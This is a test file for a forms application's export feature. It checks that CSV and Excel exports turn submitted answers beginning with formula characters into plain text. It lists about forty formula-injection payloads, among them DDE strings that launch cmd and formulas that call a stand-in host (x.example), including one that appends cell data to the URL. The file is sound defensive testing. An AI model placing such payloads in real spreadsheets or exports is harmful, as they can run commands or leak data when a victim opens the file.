/** Answers and names that a spreadsheet would run: in every exported file they are texts. */
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { api } from "../../shared/contract/index.ts";
import type { Client } from "../support/client.ts";
import { person } from "../support/people.ts";
import { must, publishWorkbook } from "../support/published-form.ts";
import { useStack } from "../support/stack.ts";
import { storeInstance } from "../support/stored-instance.ts";

const formulas: readonly string[] = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0"],
  ...["@cmd|'/C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"a")', '=WEBSERVICE("http://x.example")'],
  ...[
    '=IMPORTXML("http://x.example","//a")',
    '=IMAGE("http://x.example/a.png")',
    '=DDE("cmd";"/C calc";"x")',
  ],
  ...["\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(1)"],
  ...['"=1+1"', '",=1+1', "';=1+1", 'a"\r\n=1+1', "a\r\n=cmd|'/C calc'!A0", "=1+1;=2+2", "=\u00001+1"],
  ...["x;=1+1", "x\t=1+1", "x;-1+1|cmd", 'x;"=1+1"', "x\n@SUM(1)"],
  ...["=A1:A9", "{=SUM(1)}", "=1+1\u0000", "_xlfn.WEBSERVICE(1)", "</t></is><f>1+1</f><is><t>", "_x003D_1+1"],
];
/** What a spreadsheet takes for the start of a formula. */
const RUNS = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

const stack = useStack();
let owner: Client;
let id: number;
beforeAll(async () => {
  owner = (await person(stack, "Owner", "Person")).client;
  const form = await publishWorkbook(owner, { formName: "=1+1" });
  id = form.formId;
  for (const [index, formula] of formulas.entries()) {
    const updatedAt = new Date(Date.UTC(2026, 2, 1, 0, index)).toISOString();
    const answers = JSON.stringify({ firstName: formula, lastName: "x" });
    await storeInstance({ ...form, answers, updatedAt });
  }
});

async function exported(format: "csv" | "xlsx", more = {}): Promise<Buffer<ArrayBuffer>> {
  const { data, count } = must(await owner.call(api.forms.exportSubmissions, { id, format, ...more }));
  expect(count).toBe(formulas.length);
  return Buffer.from(data ?? "", "base64");
}

/** Lines of fields, as RFC 4180 has them. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") lines.push([]);
  }
  return lines.slice(0, -1);
}

describe(`${formulas.length} formulas`, () => {
  it("are at least 30, all different", () => {
    expect(new Set(formulas).size).toBeGreaterThanOrEqual(30);
  });

  it("are texts in a CSV file, one field each", async () => {
    const [header = [], ...lines] = readCsv((await exported("csv")).toString("utf8").replace("\uFEFF", ""));
    expect(lines).toHaveLength(formulas.length);
    expect(lines.every((line) => line.length === header.length)).toBe(true);
    expect(lines.flat().filter((field) => RUNS.test(field))).toEqual([]);
    // Elsewhere ";" or a tab separates fields, and quotation marks within a line don't quote.
    const cells = lines.flat().flatMap((field) => field.split(/[;\t\r\n]+/).slice(1));
    expect(cells.filter((cell) => RUNS.test(cell.replace(/^[ "]+/, "")))).toEqual([]);
    const column = header.indexOf("firstName");
    const bare = (text: string) => text.replaceAll(/(^|[;\t\r\n][ "]*)'/g, "$1");
    const reported = new Set(lines.map((line) => bare(line[column] ?? "")));
    expect(formulas.filter((formula) => !reported.has(bare(formula)))).toEqual([]);
  });

  it("are as they were given where a file isn't for a spreadsheet", async () => {
    const text = (await exported("csv", { guarded: false })).toString("utf8").replace("\uFEFF", "");
    const [header = [], ...lines] = readCsv(text);
    const column = header.indexOf("firstName");
    expect(new Set(lines.map((line) => line[column]))).toEqual(new Set(formulas));
  });

  it("are strings in a workbook, as they were given", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Uint8Array.from(await exported("xlsx")).buffer); // a small Buffer shares its memory
    const types = new Set<ExcelJS.ValueType>();
    const reported = new Set<string>();
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          types.add(cell.type);
          reported.add(cell.text);
          expect([cell.formula, cell.hyperlink]).toEqual([undefined, undefined]);
        }),
      ),
    );
    const { String: text, SharedString: shared, Date: moment } = ExcelJS.ValueType; // when they were started and submitted
    expect([...types].filter((type) => ![text, shared, moment].includes(type))).toEqual([]);
    expect(reported.has("=1+1")).toBe(true);
    const asXml = (text: string) =>
      text.replaceAll("\u0000", "").replaceAll("\r\n", "\n").replaceAll("\r", "\n");
    const seen = new Set([...reported].map(asXml));
    expect(formulas.filter((formula) => !seen.has(asXml(formula)))).toEqual([]);
  });
});
